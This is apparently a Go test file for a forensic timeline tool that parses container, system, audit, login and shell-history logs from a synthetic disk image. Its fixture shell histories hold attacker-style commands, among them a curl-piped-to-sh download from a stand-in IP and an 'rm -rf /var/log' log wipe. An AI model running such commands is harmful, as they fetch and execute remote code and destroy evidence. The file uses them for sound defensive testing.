package timeline_test

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/klauspost/compress/zstd"

	"github.com/firebreak-ir/firebreak/forensics/containers"
	"github.com/firebreak-ir/firebreak/forensics/timeline"
)

const (
	podDir = "var/log/pods/shop_web-1_0a1b2c3d-0000-4000-8000-000000000001/web"
	dockID = "4f1e0000000000000000000000000000000000000000000000000000000000aa"
)

// nodeLogs are logs of every kind, as a node has them.
func nodeLogs() map[string]string {
	return map[string]string{
		podDir + "/0.log": `2026-11-25T10:00:00.123456789Z stdout F started
2026-11-25T10:00:01.000000001Z stdout P one 
2026-11-25T10:00:01.000000002Z stderr F between
2026-11-25T10:00:01.000000003Z stdout F line
2026-11-25T10:00:02Z stdout F ` + "\x1b[31mred\n" + `not a line of a log
2026-11-25T10:00:03.5+01:00 stderr P has no end
`,
		podDir + "/0.log.20261125-090000.gz": zipped("2026-11-25T09:00:00Z stdout F rotated\n"),
		"var/lib/docker/containers/" + dockID + "/" + dockID + "-json.log": `{"log":"half ","stream":"stdout","time":"2026-11-25T11:00:00.1Z"}
{"log":"and half\n","stream":"stdout","time":"2026-11-25T11:00:00.2Z"}
{"log":"torn
{"log":"err\u0007\n","stream":"stderr","time":"2026-11-25T11:00:01Z"}
`,
		"var/lib/docker/containers/" + dockID + "/" + dockID + "-json.log.1": `{"log":"older\n","stream":"stdout","time":"2026-11-25T10:59:00Z"}` + "\n",
		"var/log/syslog": `no time yet
Nov 25 10:15:00 node cron[77]: (root) CMD (true)
Dec 31 23:59:59 node kernel: last year's
<13>1 2026-11-25T10:16:00.25+02:00 node app 42 - - RFC 5424
2026-11-25T10:17:00.123456+00:00 node sshd[5]: high precision
  and goes on
Feb 29 12:00:00 node kernel: a leap day
`,
		"var/log/auth.log.1":            "Nov 24 09:00:00 node sshd[9]: Accepted publickey for root\n",
		"var/log/syslog.2.gz":           zipped("Nov 23 08:00:00 node old: zipped\n"),
		"var/log/messages-20261101":     "Nov  1 00:00:01 node x: dated\n",
		"var/log/dnf.log":               "2026-11-25T10:30:00+0100 INFO zone without a colon\n2026-11-25 10:31:00,250 - a comma before the fraction\n",
		"var/log/kern.log.3.zst":        zstandard("Nov 22 08:00:00 node old: zstandard\n"),
		"var/log/cron.4.xz":             "\xfd7zXZ\x00",
		"var/log/kubelet.log":           "I1125 10:20:00.654321    1234 kubelet.go:1] started\nE1125 10:20:01.000001    1234 kubelet.go:2] failed\n",
		"var/log/containerd.log":        `time="2026-11-25T10:21:00.5Z" level=info msg="starting containerd"` + "\n",
		"var/log/audit/audit.log":       "type=EXECVE msg=audit(1795601640.123:4567): argc=1 a0=\"id\"\nnode=n type=X msg=audit(1795601641.005:4568): x\ntype=BAD msg=audit(99999999999999999999.1:1): x\n",
		"root/.bash_history":            "ls\n#1795602000\ncurl http://198.51.100.7/x | sh\nchmod +x x\n#1795602060\n./x\n#comment\n",
		"home/eve/.zsh_history":         ": 1795602120:0;rm -rf /var/log\n",
		layerDir + "/root/.ash_history": "#1795602180\nwget x\n",
		"var/log/wtmp":                  utmp(2, "reboot", "~", "6.1.0", 1795590000, [4]byte{}) + utmp(7, "root", "pts/0", "198.51.100.7", 1795600000, [4]byte{198, 51, 100, 7}) + utmp(8, "", "pts/0", "", 1795600600, [4]byte{}),
		"var/log/btmp.1":                utmp(6, "ad\x1bmin", "ssh:notty", "203.0.113.9", 1795600001, [4]byte{203, 0, 113, 9}),
	}
}

const layerDir = "var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/7/fs"

func zipped(s string) string {
	var out bytes.Buffer
	z := gzip.NewWriter(&out)
	_, _ = z.Write([]byte(s))
	_ = z.Close()
	return out.String()
}

func zstandard(s string) string {
	z, err := zstd.NewWriter(nil)
	if err != nil {
		panic(err)
	}
	return string(z.EncodeAll([]byte(s), nil))
}

// utmp is a record as x86 has it.
func utmp(kind uint16, user, line, host string, seconds uint32, address [4]byte) string {
	b := make([]byte, 384)
	binary.LittleEndian.PutUint16(b, kind)
	binary.LittleEndian.PutUint32(b[4:], 4321)
	copy(b[8:40], line)
	copy(b[44:76], user)
	copy(b[76:332], host)
	binary.LittleEndian.PutUint32(b[340:], seconds)
	binary.LittleEndian.PutUint32(b[344:], 250_000)
	copy(b[348:], address[:])
	return string(b)
}

// written is when the logs were last modified.
var written = time.Date(2026, 11, 25, 12, 0, 0, 0, time.UTC)

// logDisk makes a disk of logs that were last modified, and whose inodes last changed, at that time.
func logDisk(t *testing.T, files map[string]string) string {
	t.Helper()
	source := t.TempDir()
	var script strings.Builder
	for name, content := range files {
		name = filepath.Join(source, name)
		write(t, name, content)
		if err := os.Chtimes(name, written, written); err != nil {
			t.Fatal(err)
		}
	}
	for name := range files {
		fmt.Fprintf(&script, "sif %q ctime @%d\n", name, written.Unix())
	}
	disk := makeDisk(t, source, "16M")
	run(t, []byte(script.String()), "debugfs", "-w", "-f", "-", disk)
	return disk
}

func listing() containers.Listing {
	return containers.Listing{
		Containers: []containers.Container{
			{ID: dockID, Name: "shop", Runtime: "docker"},
			{ID: "bbbb", Name: "web", Pod: "web-1", PodNamespace: "shop", Layer: layerDir, Log: "/var/log/pods/shop_web-1_0a1b2c3d-0000-4000-8000-000000000001/web/0.log"},
		},
		Roots: []containers.Root{{Path: "var/lib/docker", Kind: containers.Docker}, {Path: "var/lib/containerd", Kind: containers.Containerd}},
	}
}

// readLogs gives the timeline of a disk's logs, and what was said of them.
func readLogs(t *testing.T, disk string, opts timeline.LogOptions) (string, timeline.LogReport) {
	t.Helper()
	line := begin(t, timeline.Options{Taken: written.Add(time.Hour)})
	opts.Listing = listing()
	report, err := line.AddLogs(t.Context(), openDisk(t, disk), opts)
	if err != nil {
		t.Fatal(err)
	}
	if report.Events != line.Len() {
		t.Errorf("%d events, of which %d are there", report.Events, line.Len())
	}
	return sketch(t, line), report
}

// TestLogs compares the timeline of all logs with one that was looked at by a person.
func TestLogs(t *testing.T) {
	out, report := readLogs(t, logDisk(t, nodeLogs()), timeline.LogOptions{})
	golden(t, "logs.jsonl", out)
	said, err := json.MarshalIndent(report, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "logs.report.json", string(said)+"\n")
}

// TestLogsWhereverTheDiskWasMounted reads the same of a disk that is a node's /var.
func TestLogsWhereverTheDiskWasMounted(t *testing.T) {
	files := map[string]string{}
	for name, content := range nodeLogs() {
		if inside, ok := strings.CutPrefix(name, "var/log/"); ok {
			files["log/"+inside] = content
		}
	}
	out, report := readLogs(t, logDisk(t, files), timeline.LogOptions{})
	if report.Files != 13 || !strings.Contains(out, `"log":"/log/pods/shop_web-1`) || !strings.Contains(out, `"container_id":"bbbb"`) {
		t.Errorf("%+v\n%.2000s", report, out)
	}
}

// TestYearsOfALogWhoseTimesWereSet dates a log by its inode's last change where its modification lies behind that, and says
// when it lies long before.
func TestYearsOfALogWhoseTimesWereSet(t *testing.T) {
	disk := logDisk(t, map[string]string{"var/log/syslog": "Jan  1 10:15:00 node x: y\n"})
	for _, test := range []struct{ modified, changed, want, note string }{
		{"20261125", "20261125", `"2026-01-01T10:15:00.000000+00:00"`, "year inferred from the log's last modification, zone UTC assumed"},
		{"20300202", "20261125", `"2026-01-01T10:15:00.000000+00:00"`, "the last change of the log's inode"},
		{"20190202", "20261125", `"2019-01-01T10:15:00.000000+00:00"`, "which may have been set: its inode changed on 2026-11-25"},
	} {
		run(t, []byte("sif var/log/syslog mtime "+test.modified+"\nsif var/log/syslog ctime "+test.changed+"\n"), "debugfs", "-w", "-f", "-", disk)
		if out, _ := readLogs(t, disk, timeline.LogOptions{}); !strings.Contains(out, test.want) || !strings.Contains(out, test.note) {
			t.Errorf("%+v: %s", test, out)
		}
	}
}

// TestZoneOfTheDisk takes the zone of a log that names none from the disk.
func TestZoneOfTheDisk(t *testing.T) {
	rules, err := os.ReadFile("testdata/berlin.tzif") // of the public-domain time zone database, as a node's /etc/localtime
	if err != nil {
		t.Fatal(err)
	}
	files := map[string]string{"etc/localtime": string(rules), "var/log/syslog": "Nov 25 10:15:00 node x: y\nJul  1 10:15:00 node x: y\n"}
	disk := logDisk(t, files)
	out, report := readLogs(t, disk, timeline.LogOptions{})
	for _, want := range []string{`"datetime":"2026-11-25T09:15:00.000000+00:00"`, `"datetime":"2026-07-01T08:15:00.000000+00:00"`} {
		if !strings.Contains(out, want) {
			t.Errorf("%s\n%s", want, out)
		}
	}
	if !strings.Contains(report.Zone, "/etc/localtime") || strings.Contains(out, "assumed") {
		t.Error(report.Zone)
	}
	if out, _ = readLogs(t, disk, timeline.LogOptions{Zone: time.FixedZone("given", -3600)}); !strings.Contains(out, "T11:15:00.000000+00:00") {
		t.Error(out)
	}
}

// TestLogsAreBounded reads the end of a long log, the head of a compressed one, and no more files than are granted.
func TestLogsAreBounded(t *testing.T) {
	var long strings.Builder
	for i := range 2000 {
		fmt.Fprintf(&long, "2026-11-25T10:00:00.%06dZ stdout F %d\n", i, i)
	}
	files := map[string]string{podDir + "/0.log": long.String(), podDir + "/1.log.gz": zipped(long.String()), "var/log/syslog": "Nov 25 10:15:00 " + strings.Repeat("x", 100_000) + "\n"}
	disk := logDisk(t, files)
	out, report := readLogs(t, disk, timeline.LogOptions{MaxFileBytes: 10_000})
	said := strings.Join(report.Problems, "\n")
	for _, want := range []string{"0.log: of its ", "the last 10000 were read", "1.log.gz: only its first 10000 bytes were read", "syslog: of its 100017 bytes the last 10000 were read"} {
		if !strings.Contains(said, want) {
			t.Errorf("%q\n%s", want, said)
		}
	}
	if !strings.Contains(out, "stdout: 1999\"") || strings.Contains(out, "0.log\"}\n{\"message\":\"stdout: 500\"") || strings.Count(out, "\n") < 400 {
		t.Errorf("%d lines", strings.Count(out, "\n"))
	}
	out, _ = readLogs(t, disk, timeline.LogOptions{})
	if !strings.Contains(out, "x… (100000 bytes)") || len(out) > 2_000_000 {
		t.Errorf("%d bytes", len(out))
	}
	for name, opts := range map[string]timeline.LogOptions{"files": {MaxFiles: 1}, "bytes": {MaxBytes: 1000}} {
		if _, report := readLogs(t, disk, opts); !strings.Contains(strings.Join(report.Problems, "\n"), "nor those after it") {
			t.Errorf("%s: %+v", name, report)
		}
	}
}

// TestLogsThatAreNone opens no link, pipe or device that stands where a log does.
func TestLogsThatAreNone(t *testing.T) {
	source := t.TempDir()
	write(t, filepath.Join(source, "etc/shadow"), "Nov 25 10:15:00 secret\n")
	for _, dir := range []string{"var/log/pods/a_b_c/d", "root"} {
		if err := os.MkdirAll(filepath.Join(source, dir), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for name, target := range map[string]string{"var/log/syslog": "/etc/shadow", "var/log/pods/a_b_c/d/0.log": "/etc/shadow", "root/.bash_history": "/etc/shadow", "home": "/", "var/log/audit": "/etc"} {
		if err := os.Symlink(target, filepath.Join(source, name)); err != nil {
			t.Fatal(err)
		}
	}
	if out, report := readLogs(t, makeDisk(t, source, "8M"), timeline.LogOptions{}); out != "" || report.Files != 0 {
		t.Errorf("%s %+v", out, report)
	}
}
